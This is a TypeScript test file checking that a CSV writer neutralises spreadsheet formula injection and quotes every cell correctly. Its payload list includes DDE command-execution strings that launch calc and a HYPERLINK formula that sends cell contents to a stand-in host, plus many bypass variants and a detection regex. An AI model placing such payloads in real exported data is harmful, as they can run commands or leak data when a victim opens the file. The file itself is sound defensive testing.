import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { writeCsv } from './csv.ts';

/** What spreadsheets run, call or fetch when a cell begins with it. */
const FORMULAS = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example/?x="&A1,"ver")',
  '+1-1',
  '-2+3',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '\u00a0=1+1',
  '\0=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '﹦1+1',
  '"=1+1"',
  'hola;=1+1',
  'hola;\n=1+1',
  'hola\t=1+1',
  'hola\n=1+1;@SUM(1)',
  'hola;"=1+1&""',
  '=) 1+1 -- @ todas',
  ';;;=1'
];
const HARMLESS = [
  '',
  '¿Qué propone el plan, y quién lo paga?',
  'a=1, b+2',
  '«Dijo: "no"», y se fue',
  'dos\nlíneas',
  '— ¿Y después?',
  'María José Nuño O’Higgins-de la Peña',
  '👩🏽‍🌾',
  '2026-11-24',
  '#1'
];

/** A cell begins at its start and, for whoever splits by something else, after a separator. */
const RUNS = /^[\t\r\0]|(^|[;\t\r\n])[\s\0"]*[=+\-@＝＋－＠﹦]/;

describe('a csv file', () => {
  test.for(FORMULAS)('shows %j and does not run it', async (text) => {
    const [cell = ''] = (await cellsOf([text])).flat();
    expect(cell).not.toMatch(RUNS);
    expect(cell.replaceAll("'", '')).toBe(text.replaceAll("'", ''));
  });

  test.for(HARMLESS)('holds %j as it is', async (text) => {
    expect(await cellsOf([text])).toEqual([[text]]);
  });

  test('has as many rows and cells as were given, and no cell that runs', async () => {
    const text = fc.oneof(
      fc.constantFrom(...FORMULAS, ...HARMLESS),
      fc.string({ unit: fc.constantFrom(...'=+-@;,"\'\n\r\t＝a ') }),
      fc.string({ unit: 'grapheme' })
    );
    await fc.assert(
      fc.asyncProperty(fc.array(text, { minLength: 1 }), async (texts) => {
        const cells = await cellsOf(texts);
        expect(cells).toHaveLength(texts.length);
        for (const row of cells) expect(row).toHaveLength(1);
        expect(cells.flat().filter((cell) => RUNS.test(cell))).toEqual([]);
      })
    );
  });

  test('begins with a byte order mark and the names of the columns, also when nothing follows', async () => {
    expect(await fileOf(['status', 'votes'], [])).toBe('\ufeffstatus,votes\r\n');
  });

  test('quotes every cell and leaves the missing ones empty', async () => {
    expect(
      await fileOf(['text', 'votes'], [[{ text: 'a "b"', votes: 0 }], [{ text: null, votes: -3 }]])
    ).toBe('\ufefftext,votes\r\n"a ""b""","0"\r\n"","-3"\r\n');
  });
});

async function cellsOf(texts: string[]): Promise<string[][]> {
  const file = await fileOf(['text'], [texts.map((text) => ({ text }))]);
  return parse(file, { bom: true, from: 2, relax_column_count: true, skip_empty_lines: false });
}

async function fileOf<Column extends string>(
  columns: Column[],
  batches: Record<Column, string | number | null>[][]
): Promise<string> {
  let file = '';
  for await (const piece of writeCsv(columns, asBatches(batches))) file += piece;
  return file;
}

async function* asBatches<Row>(batches: Row[][]): AsyncGenerator<Row[]> {
  yield* batches;
}
